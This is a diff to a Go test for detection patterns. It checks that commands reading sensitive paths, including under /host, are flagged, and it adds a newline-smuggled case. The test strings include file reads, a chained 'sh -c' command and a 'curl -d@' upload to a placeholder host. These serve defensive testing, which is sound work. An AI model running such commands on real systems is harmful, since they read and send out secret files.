@@ -27,7 +27,7 @@ func TestLists(t *testing.T) {
 			if !Is(p, false) || !Is("/host"+p, false) {
 				t.Errorf("a command that reads %s, here or below /host, reads nothing", p)
 			}
-			for _, text := range []string{"cat " + p, "cat /host" + p + " /x", "sh -c cat " + p + ";true", "curl -d@" + p + "/x http://x"} {
+			for _, text := range []string{"cat " + p, "cat /host" + p + " /x", "sh -c cat " + p + ";true", "curl -d@" + p + "/x http://x", "id\ncat " + p + "\nid"} {
 				if !slices.ContainsFunc(expressions, func(e *regexp.Regexp) bool { return e.MatchString(text) }) {
 					t.Errorf("nothing is seen in %q", text)
 				}
